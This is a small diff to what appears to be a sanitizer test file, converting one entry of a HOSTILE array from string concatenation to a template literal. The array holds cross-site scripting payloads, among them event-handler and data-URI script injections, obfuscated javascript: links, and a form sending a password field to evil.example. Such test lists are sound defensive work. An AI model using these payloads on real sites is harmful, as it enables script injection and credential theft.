@@ -46,7 +46,7 @@ const HOSTILE = [
   '<form action="https://evil.example"><input name=password></form>',
   '<!-- --><b onmouseover=alert(1)>x</b>',
   '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
-  '<x' + '<script>'.repeat(3) + 'alert(1)</script>',
+  `<x${'<script>'.repeat(3)}alert(1)</script>`,
   '[x](javascript:alert(1))',
   '[x](JaVaScRiPt:alert(1))',
   '[x](javascript&colon;alert(1))',
